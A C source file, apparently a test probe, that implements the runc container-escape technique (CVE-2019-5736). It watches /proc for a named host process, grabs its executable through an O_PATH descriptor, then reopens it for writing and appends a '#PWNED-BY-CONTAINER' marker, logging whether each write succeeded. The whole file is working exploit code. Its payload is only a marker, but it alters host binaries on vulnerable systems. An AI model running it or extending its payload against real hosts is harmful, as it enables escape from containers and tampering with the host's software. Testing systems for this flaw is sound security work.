#define _GNU_SOURCE
/* An attacker inside a container (runc's CVE-2019-5736): watch /proc for a
 * process whose executable's name holds NEEDLE, hold that executable by an
 * O_PATH descriptor, and once the process is gone (a running binary cannot be
 * written), reopen it for writing through /proc/self/fd and append to it.
 * Appends one line per catch to REPORT: "caught N PID EXE", then either
 * "WROTE N" or "refused N: REASON". Ends after COUNT catches or SECONDS. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void report(const char *path, const char *line) {
    int fd = open(path, O_WRONLY | O_APPEND | O_CREAT, 0644);
    if (fd >= 0) { write(fd, line, strlen(line)); close(fd); }
}

int main(int argc, char **argv) {
    if (argc != 5) { fprintf(stderr, "usage: exewatch NEEDLE REPORT COUNT SECONDS\n"); return 2; }
    const char *needle = argv[1], *out = argv[2];
    int count = atoi(argv[3]), caught = 0;
    time_t end = time(NULL) + atoi(argv[4]);
    pid_t self = getpid(), last = 0;
    char line[512], path[64], exe[256];
    while (caught < count && time(NULL) < end) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        int fd = -1;
        pid_t pid = 0;
        while (proc && (e = readdir(proc))) {
            pid = atoi(e->d_name);
            if (pid <= 0 || pid == self || pid == last) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, exe, sizeof exe - 1);
            if (n <= 0) continue;
            exe[n] = 0;
            if (!strstr(exe, needle)) continue;
            fd = open(path, O_PATH);
            if (fd >= 0) break;
        }
        if (proc) closedir(proc);
        if (fd < 0) continue;
        last = pid;
        caught++;
        snprintf(line, sizeof line, "caught %d %d %s\n", caught, pid, exe);
        report(out, line);
        snprintf(path, sizeof path, "/proc/%d", pid);
        while (access(path, F_OK) == 0) usleep(200);
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        int w = -1, why = 0;
        for (int tries = 0; tries < 2000; tries++) {
            w = open(path, O_WRONLY | O_APPEND);
            why = errno;
            if (w >= 0 || why != ETXTBSY) break;
            usleep(500);
        }
        if (w >= 0 && write(w, "#PWNED-BY-CONTAINER\n", 20) == 20)
            snprintf(line, sizeof line, "WROTE %d\n", caught);
        else
            snprintf(line, sizeof line, "refused %d: %s\n", caught, strerror(w >= 0 ? errno : why));
        report(out, line);
        if (w >= 0) close(w);
        close(fd);
    }
    return 0;
}
